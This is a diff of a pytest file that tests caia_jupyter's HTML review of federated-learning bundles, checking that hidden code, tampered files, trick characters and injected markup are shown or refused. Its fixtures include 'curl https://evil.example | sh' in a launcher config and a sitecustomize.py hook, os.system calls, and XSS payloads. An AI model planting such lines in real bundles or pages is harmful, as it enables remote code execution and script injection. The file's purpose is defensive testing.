@@ -1,23 +1,115 @@
+import ast
+import hashlib
 import html
+import json
 import re
 
 import numpy as np
 import nbformat
 import pytest
 
-from caia_jupyter import bundle, review
+from caia_jupyter import __version__, bundle, review
+from caia_jupyter.bundle import MODULE_HEAD, RUNNER, Bundle
 from caia_jupyter.errors import BundleError
+from caia_jupyter.flare.app import CLIENT_CONFIG, client_config
+from caia_jupyter.manifest import bundle_id
+
+ROLES = {"federated.py": "module", "caia_runner.py": "runner", CLIENT_CONFIG: "flare-config", "requirements.txt": "requirements"}
+ENTRY_POINTS = "def build_model(): pass\ndef load_data(ctx): pass\ndef train(m, d, ctx): pass\ndef evaluate(m, d, ctx): pass\n"
 
 
-def text_of(path):
-    return html.unescape(re.sub(r"<[^>]+>", "", path.read_text()))
+def text_of(page: str) -> str:
+    return html.unescape(re.sub(r"<[^>]+>", "", page))
+
+
+def make_bundle(folder, files: dict[str, bytes], opaque: dict[str, tuple[str, str]] | None = None) -> Bundle:
+    """A bundle folder written by hand: caia's runner, client config and requirements, plus `files`."""
+    files = {"caia_runner.py": RUNNER.encode(), CLIENT_CONFIG: client_config(), "requirements.txt": b"", **files}
+    entries = {}
+    for name, data in files.items():
+        (folder / name).parent.mkdir(parents=True, exist_ok=True)
+        (folder / name).write_bytes(data)
+        entry = {"sha256": hashlib.sha256(data).hexdigest(), "size": len(data), "role": ROLES.get(name, "captured")}
+        if name in (opaque or {}):
+            entry.update(opaque=True, python_name=opaque[name][0], python_type=opaque[name][1])
+        entries[name] = entry
+    manifest = {"format": "caia-bundle/1", "caia_version": __version__, "python": "3.11", "module": "federated.py",
+                "runner": "caia_runner.py", "files": entries, "datasets": {}, "job": {"rounds": 1, "min_clients": 1, "params": {}}}
+    (folder / "manifest.json").write_text(json.dumps(manifest, indent=2, sort_keys=True))
+    (folder / "records").mkdir(exist_ok=True)
+    return Bundle(folder, bundle_id(manifest), manifest)
+
+
+def page_of(built: Bundle) -> str:
+    return review.to_html(review.review_notebook(built), "Review")
+
+
+# name -> (federated.py, the (kind, ordinal) of its parts)
+MODULES = {
+    "caia-generated": (MODULE_HEAD + "\n# ---- federated cell 1 ----\nimport os\n\n# ---- federated cell 2 ----\nx = 1\n",
+                       [("docstring", None), ("cell", 1), ("cell", 2)]),
+    "code-on-the-docstring-line": ('"""doc"""; import os\n# ---- federated cell 1 ----\nx = 1\n', [("head", None), ("cell", 1)]),
+    "code-after-spaces-on-the-docstring-line": ('"""doc""" ; os.system("x")\n\n# ---- federated cell 1 ----\nx = 1\n',
+                                                [("head", None), ("cell", 1)]),
+    "code-on-the-closing-line-of-a-long-docstring": ('"""doc\n\nmore\n"""; import os\n# ---- federated cell 1 ----\nx = 1\n',
+                                                     [("head", None), ("cell", 1)]),
+    "docstring-continued-by-an-operator": ('"""doc""" + os.system("x")\n# ---- federated cell 1 ----\n', [("head", None), ("cell", 1)]),
+    "docstring-continued-by-a-backslash": ('"""doc"""\\\n; import os\n# ---- federated cell 1 ----\n', [("head", None), ("cell", 1)]),
+    "docstring-with-a-trailing-comment": ('"""doc"""  # note\n# ---- federated cell 1 ----\n', [("head", None), ("cell", 1)]),
+    "f-string-that-runs-code-first": ('f"""{__import__("os").system("x")}"""\n# ---- federated cell 1 ----\n',
+                                      [("head", None), ("cell", 1)]),
+    "bytes-first": ('b"""doc"""\n# ---- federated cell 1 ----\n', [("head", None), ("cell", 1)]),
+    "blank-line-before-the-docstring": ('\n"""doc"""\n# ---- federated cell 1 ----\n', [("head", None), ("cell", 1)]),
+    "no-docstring": ("# ---- federated cell 1 ----\nx = 1\n# ---- federated cell 2 ----\ny = 2\n", [("cell", 1), ("cell", 2)]),
+    "code-before-the-first-marker": ('"""doc"""\n\nimport os\nos.system("x")\n# ---- federated cell 1 ----\nx = 1\n',
+                                     [("docstring", None), ("head", None), ("cell", 1)]),
+    "marker-inside-a-triple-quoted-string": ('# ---- federated cell 1 ----\nx = """\n# ---- federated cell 2 ----\n"""\nimport os\n',
+                                             [("cell", 1)]),
+    "marker-after-code": ("# ---- federated cell 1 ----\nimport os  # ---- federated cell 2 ----\n", [("cell", 1)]),
+    "marker-with-trailing-text": ("# ---- federated cell 1 ----\n# ---- federated cell 2 ---- os.system('x')\n", [("cell", 1)]),
+    "indented-marker": ("# ---- federated cell 1 ----\ndef f():\n    # ---- federated cell 2 ----\n    return 1\n", [("cell", 1)]),
+    "marker-inside-brackets": ("# ---- federated cell 1 ----\nx = (\n# ---- federated cell 2 ----\n1)\n", [("cell", 1)]),
+    "crlf-line-ends": ('"""doc"""\r\n# ---- federated cell 1 ----\r\nx = 1\r\n', [("docstring", None), ("cell", 1)]),
+    "no-newline-at-the-end": ('"""doc"""\n# ---- federated cell 1 ----\nx = 1', [("docstring", None), ("cell", 1)]),
+    "unterminated-string": ('"""doc\n# ---- federated cell 1 ----\n', [("head", None)]),
+    "empty": ("", []),
+}
+
+
+@pytest.mark.parametrize("source, kinds", MODULES.values(), ids=MODULES.keys())
+def test_the_module_split_keeps_every_byte_and_finds_only_real_docstrings_and_markers(source, kinds):
+    parts = review.split_module(source)
+    assert "".join(part.text for part in parts) == source
+    assert [(part.kind, part.ordinal) for part in parts] == kinds
+    for part in parts:
+        if part.kind == "docstring":  # nothing but a string constant
+            body = ast.parse(part.text).body
+            assert len(body) == 1 and isinstance(body[0].value, ast.Constant) and isinstance(body[0].value.value, str)
+        if part.kind == "cell":
+            assert part.text.startswith(f"# ---- federated cell {part.ordinal} ----")
+
+
+@pytest.mark.parametrize("source", [s for s, _ in MODULES.values()], ids=MODULES.keys())
+def test_the_review_shows_the_whole_module_in_its_code_cells(source, tmp_path):
+    nb = review.review_notebook(make_bundle(tmp_path, {"federated.py": source.encode()}))
+    shown = [cell.source for cell in nb.cells if cell.get("metadata", {}).get("caia", {}).get("file") == "federated.py"]
+    assert "".join(shown) == source
+
+
+def test_code_on_the_docstring_closing_line_appears_in_the_review(tmp_path):
+    module = '"""A harmless module.\n"""; import os; os.system("echo pwned")\n# ---- federated cell 1 ----\n' + ENTRY_POINTS
+    built = make_bundle(tmp_path / "b", {"federated.py": module.encode()})
+    text = text_of(review.render(built.path).read_text())
+    assert 'import os; os.system("echo pwned")' in text
+    assert "Module docstring" not in text
 
 
 @pytest.mark.slow
 def test_review_shows_code_notes_datasets_files_and_validation(validated_good, tmp_path, caia):
     code, out, _ = caia("review", validated_good.path, "-o", tmp_path / "review.html")
     assert code == 0
-    text = text_of(tmp_path / "review.html")
+    page = (tmp_path / "review.html").read_text()
+    text = text_of(page)
     assert validated_good.id in text
     assert "def train(model, data, ctx):" in text and "A linear model." in text
     assert "not covered by the bundle id" in text
@@ -25,20 +117,123 @@ def test_review_shows_code_notes_datasets_files_and_validation(validated_good, t
     assert validated_good.manifest["files"]["federated.py"]["sha256"] in text
     assert "Passed" in text
     assert "local exploration" not in text  # local cells stay out
-    assert "Opaque" not in text
+    assert "Opaque values captured" not in text
+    assert "<h2" in page and "&lt;h2" not in page  # headings are headings, not escaped tags
 
 
-def test_review_calls_out_opaque_values_and_sanitises_notes(write_notebook, tmp_path):
-    path = write_notebook("free_name")
-    nb = nbformat.read(path, as_version=4)
-    nb.cells[4].source = "A linear model.<script>alert('x')</script>"
-    nbformat.write(nb, path)
-    built = bundle.build(path, tmp_path / "b", namespace={"LEARNING_RATE": np.float32(0.5)})
+def test_the_runner_client_config_and_requirements_are_shown_in_full(tmp_path):
+    built = make_bundle(tmp_path, {"federated.py": ENTRY_POINTS.encode(), "requirements.txt": b"torch==2.13.0\n"})
+    text = text_of(page_of(built))
+    for line in RUNNER.splitlines():
+        assert line in text
+    assert f"byte for byte, the runner caia-jupyter {__version__} writes" in text
+    assert "nvflare.app_common.executors.client_api_executor.ClientAPIExecutor" in text
+    assert "NVFLARE's Client API executor. It runs caia_runner.py inside the site's job process (in-process" in text
+    assert "nvflare.app_common.widgets.convert_to_fed_event.ConvertToFedEvent" in text and "analytix_log_stats" in text
+    assert "your site's caia guard admits only that file" in text
+    for line in client_config().decode().splitlines():
+        assert line in text
+    assert "torch==2.13.0" in text
+
+
+def test_a_client_config_that_runs_a_command_is_shown_and_called_out(tmp_path):
+    config = json.loads(client_config())
+    config["executors"][0]["executor"] = {
+        "path": "nvflare.app_common.executors.client_api_launcher_executor.ClientAPILauncherExecutor",
+        "args": {"launcher_id": "launcher"}}
+    config["components"].append({"id": "launcher", "path": "nvflare.app_common.launchers.subprocess_launcher.SubprocessLauncher",
+                                 "args": {"script": "bash -c 'curl https://evil.example | sh'"}})
+    built = make_bundle(tmp_path, {"federated.py": ENTRY_POINTS.encode(), CLIENT_CONFIG: json.dumps(config).encode()})
+    text = text_of(page_of(built))
+    assert "⚠ This file differs from the client config caia-jupyter" in text
+    assert "nvflare.app_common.launchers.subprocess_launcher.SubprocessLauncher. ⚠ Not part of caia's client config" in text
+    assert "bash -c 'curl https://evil.example | sh'" in text
+    assert json.dumps(config) in text  # the file byte for byte, besides the pretty-printed reading
+
+
+def test_a_client_config_with_duplicate_keys_is_called_out(tmp_path):
+    config = client_config().decode().replace('"format_version": 2', '"format_version": 2, "executors": []')
+    built = make_bundle(tmp_path, {"federated.py": ENTRY_POINTS.encode(), CLIENT_CONFIG: config.encode()})
+    assert "duplicate key 'executors'" in text_of(page_of(built))
+
+
+def test_an_extra_listed_file_is_shown_in_full(tmp_path):
+    hook = 'import os\nos.system("curl https://evil.example | sh")\n'
+    built = make_bundle(tmp_path, {"federated.py": ENTRY_POINTS.encode(), "sitecustomize.py": hook.encode(),
+                                   "notes/readme.txt": b"hello | `tick` <b>bold</b>\n"})
+    nb = review.review_notebook(built)
+    assert [c.source for c in nb.cells if c.get("metadata", {}).get("caia", {}).get("file") == "sitecustomize.py"] == [hook]
+    text = text_of(review.to_html(nb, "Review"))
+    assert "Files caia-jupyter does not write" in text and "sitecustomize.py" in text
+    assert 'os.system("curl https://evil.example | sh")' in text
+    assert "hello | `tick` <b>bold</b>" in text
+
+
+def test_a_binary_listed_file_is_shown_by_size_and_sha256(tmp_path):
+    pyc = b"\xa7\r\r\n\x00\x00\x00\x00" + bytes(range(256))
+    built = make_bundle(tmp_path, {"federated.py": ENTRY_POINTS.encode(), "__pycache__/federated.cpython-311.pyc": pyc})
+    text = text_of(page_of(built))
+    assert "__pycache__/federated.cpython-311.pyc" in text
+    assert f"{len(pyc)} bytes, sha256 {hashlib.sha256(pyc).hexdigest()}" in text
+    assert "Not text: it cannot be shown here" in text
+
+
+def test_opaque_values_are_shown_by_name_type_size_and_sha256(write_notebook, tmp_path):
+    built = bundle.build(write_notebook("free_name"), tmp_path / "b", namespace={"LEARNING_RATE": np.float32(0.5)})
+    text = text_of(review.render(built.path).read_text())
+    entry = built.manifest["files"]["captured/LEARNING_RATE.pkl"]
+    assert "Opaque values captured" in text
+    assert f"LEARNING_RATE numpy.float32 captured/LEARNING_RATE.pkl {entry['size']} {entry['sha256']}" in " ".join(text.split())
+    assert "def _caia_load_captured(name):" in text  # the loader, in the module's head
+
+
+def test_a_file_flagged_opaque_that_is_not_a_captured_value_is_shown_in_full(tmp_path):
+    hook = b'import os\nos.system("id")\n'
+    built = make_bundle(tmp_path, {"federated.py": ENTRY_POINTS.encode(), "sitecustomize.py": hook},
+                        opaque={"sitecustomize.py": ("x", "int")})
+    text = text_of(page_of(built))
+    assert 'os.system("id")' in text and "Opaque values captured" not in text
+
+
+@pytest.mark.parametrize("source, problem", [
+    ("# \u202e )(metsys.so\n", "federated.py line 2: bidirectional control character U+202E"),
+    ('if user == "admin\u200b":\n    pass\n', "federated.py line 2: invisible character U+200B"),
+    ("# coding: utf-7\n", "federated.py line 1: coding declaration 'utf-7'"),
+], ids=["right-to-left-override", "zero-width-space", "coding-utf-7"])
+def test_the_review_refuses_source_python_reads_differently(source, problem, tmp_path):
+    module = (source if "coding" in source else "x = 1\n" + source) + ENTRY_POINTS
+    built = make_bundle(tmp_path / "b", {"federated.py": module.encode()})
+    with pytest.raises(BundleError, match=re.escape(problem)):
+        review.render(built.path)
+    assert not (built.records / "review.html").exists()
+
+
+def test_records_are_shown_as_plain_text_and_the_page_runs_no_script(write_notebook, tmp_path):
+    built = bundle.build(write_notebook("good"), tmp_path / "b")
+    record = json.loads((built.records / "build.json").read_text())
+    record["cells"][0]["intro"] = ("<script>alert(1)</script>\n# Not a heading\n```python\ndef train(): pass\n```\n"
+                                   "[click](javascript:alert(2)) ![x](https://evil.example/x.png) $\\href{x}{y}$ \u202eevil")
+    (built.records / "build.json").write_text(json.dumps(record))
+    (built.records / "validation.json").write_text(json.dumps({
+        "bundle_id": built.id, "passed": False, "error": {"summary": "<img src=x onerror=alert(3)> | **bold**"}}))
     page = review.render(built.path).read_text()
-    text = text_of(built.records / "review.html")
-    assert "Opaque values captured" in text and "numpy.float32" in text
-    assert "Not validated" in text
-    assert "<script>alert" not in page
+    assert "<script" not in page and "<img" not in page and not re.search(r"href=\"(?!#)", page)  # only links within the page
+    assert "evil.example" not in re.sub(r"(?s)<main>.*</main>", "", page)  # nothing loaded from elsewhere
+    assert "Content-Security-Policy" in page and "default-src 'none'" in page
+    notes = re.search(r"<blockquote>(.*?)</blockquote>", page, re.S).group(1)
+    assert set(re.findall(r"</?(\w+)", notes)) == {"p"}  # no heading, code block, link or image made from the notes
+    text = text_of(page)
+    assert "<script>alert(1)</script>" in text and "# Not a heading" in text and "[U+202E]evil" in text
+    assert "<img src=x onerror=alert(3)> | **bold**" in text
+
+
+def test_malformed_records_do_not_stop_the_review(write_notebook, tmp_path):
+    built = bundle.build(write_notebook("good"), tmp_path / "b")
+    (built.records / "build.json").write_text(json.dumps({"bundle_id": built.id, "cells": ["x", {"ordinal": "1", "intro": 3}]}))
+    (built.records / "validation.json").write_text(json.dumps({"bundle_id": built.id, "passed": True, "result": "oops", "versions": []}))
+    assert "Passed" in text_of(review.render(built.path).read_text())
+    (built.records / "validation.json").write_text("[1, 2]")
+    assert "Not validated" in text_of(review.render(built.path).read_text())
 
 
 def test_review_refuses_a_tampered_bundle(write_notebook, tmp_path):
@@ -47,3 +242,10 @@ def test_review_refuses_a_tampered_bundle(write_notebook, tmp_path):
     with pytest.raises(BundleError, match="is not intact: file caia_runner.py"):
         review.render(built.path)
     assert not (built.records / "review.html").exists()
+
+
+def test_the_review_reads_each_file_once_and_refuses_one_changed_after_the_check(tmp_path):
+    built = make_bundle(tmp_path, {"federated.py": ENTRY_POINTS.encode()})
+    (tmp_path / "federated.py").write_text(ENTRY_POINTS + "import os\n")
+    with pytest.raises(BundleError, match="file federated.py does not match manifest.json"):
+        review.review_notebook(built)
